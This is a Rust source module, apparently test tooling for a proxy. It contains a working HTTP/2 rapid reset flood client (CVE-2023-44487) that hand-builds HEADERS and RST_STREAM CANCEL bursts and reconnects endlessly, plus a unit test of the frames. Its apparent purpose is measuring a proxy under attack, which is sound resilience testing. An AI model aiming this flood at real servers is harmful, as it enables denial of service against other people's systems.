//! A client that does harm: HTTP/2 rapid reset (CVE-2023-44487) at full speed.
//!
//! Each request is cancelled right after it was sent, so that it counts against no limit of
//! streams while the proxy has the work of it. Connections that are ended are made anew.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with};

use crate::Result;

/// Preface and an empty SETTINGS frame (RFC 9113 §3.4).
const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// The answer to the SETTINGS of the proxy.
const SETTINGS_ACK: &[u8] = b"\0\0\0\x04\x01\0\0\0\0";
/// Another client than the quiet ones.
const ATTACKER: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 2), 0);
/// Requests in one write.
const BURST: u32 = 128;
/// Streams of a connection (RFC 9113 §5.1.1).
const LAST_STREAM: u32 = u32::MAX >> 1;
/// How long the proxy may take to greet, or to take what was sent.
const PATIENCE: Duration = Duration::from_millis(500);

/// Floods `address` while `work` runs.
///
/// # Errors
/// Those of `work`, or not one request could be sent.
pub fn during<T>(address: SocketAddr, work: impl FnOnce() -> Result<T>) -> Result<T> {
    let over = AtomicBool::new(false);
    let (done, sent) = thread::scope(|scope| {
        let attacker = scope.spawn(|| attack(address, &over));
        let done = work();
        over.store(true, Ordering::Relaxed);
        (done, attacker.join().unwrap_or_default())
    });
    let done = done?;
    if sent == 0 {
        return Err("the attacker could not send one request by HTTP/2".into());
    }
    Ok(done)
}

/// Gives how many requests were sent.
fn attack(address: SocketAddr, over: &AtomicBool) -> u64 {
    // The quiet clients go first on the core of the load: they are what is measured.
    let _ = rustix::process::nice(19);
    let mut sent = 0;
    while !over.load(Ordering::Relaxed) {
        // However a connection ends, the next one is tried.
        let _ = connection(address, over, &mut sent);
    }
    sent
}

fn connection(address: SocketAddr, over: &AtomicBool, sent: &mut u64) -> std::io::Result<()> {
    let socket = socket_with(AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC, None)?;
    bind(&socket, &ATTACKER)?;
    connect(&socket, &address)?;
    let mut stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    stream.write_all(HELLO)?;
    // An answer to SETTINGS that have not come would be the end of the connection.
    stream.read_exact(&mut [0; 9])?;
    stream.write_all(SETTINGS_ACK)?;
    let fields = fields(address);
    let (mut burst, mut input) = (Vec::new(), vec![0; 64 << 10]);
    let mut next = 1;
    while next < LAST_STREAM - 2 * BURST && !over.load(Ordering::Relaxed) {
        burst.clear();
        for stream in (next..).step_by(2).take(BURST as usize) {
            // HEADERS with END_STREAM and END_HEADERS, and RST_STREAM with CANCEL.
            burst.extend([0, 0, fields.len() as u8, 1, 5]);
            burst.extend(stream.to_be_bytes());
            burst.extend_from_slice(&fields);
            burst.extend([0, 0, 4, 3, 0]);
            burst.extend(stream.to_be_bytes());
            burst.extend(8u32.to_be_bytes());
        }
        next += 2 * BURST;
        stream.write_all(&burst)?;
        *sent += u64::from(BURST);
        // A proxy that cannot send would wait, and have nothing to do.
        stream.set_nonblocking(true)?;
        match stream.read(&mut input) {
            Ok(0) => return Ok(()),
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
        stream.set_nonblocking(false)?;
    }
    Ok(())
}

/// GET of the small body, as a field block without Huffman coding or the dynamic table
/// (RFC 7541 §6.1 and §6.2.2), shorter than 255 bytes.
fn fields(address: SocketAddr) -> Vec<u8> {
    // `:method: GET`, `:scheme: http`, and literals with the names of `:path` and
    // `:authority`.
    let mut fields = vec![0x82, 0x86];
    for (name, value) in [(4, "/1k".to_owned()), (1, address.to_string())] {
        fields.extend([name, value.len() as u8]);
        fields.extend_from_slice(value.as_bytes());
    }
    fields
}

#[cfg(test)]
mod tests {
    use std::net::{Ipv4Addr, TcpListener};

    use super::*;

    #[test]
    fn each_request_is_cancelled() {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let address = listener.local_addr().unwrap();
        let (request, cancel) = during(address, || {
            let (mut peer, _) = listener.accept()?;
            let mut start = vec![0; HELLO.len()];
            peer.read_exact(&mut start)?;
            peer.write_all(&HELLO[HELLO.len() - 9..])?;
            let mut start = vec![0; SETTINGS_ACK.len() + 9];
            peer.read_exact(&mut start)?;
            let request = start.split_off(SETTINGS_ACK.len());
            let mut rest = vec![0; usize::from(request[2]) + 13];
            peer.read_exact(&mut rest)?;
            let cancel = rest.split_off(usize::from(request[2]));
            Ok((request, cancel))
        })
        .unwrap();
        assert_eq!(request[3..], [1, 5, 0, 0, 0, 1]);
        assert_eq!(cancel, [0, 0, 4, 3, 0, 0, 0, 0, 1, 0, 0, 0, 8]);
    }
}
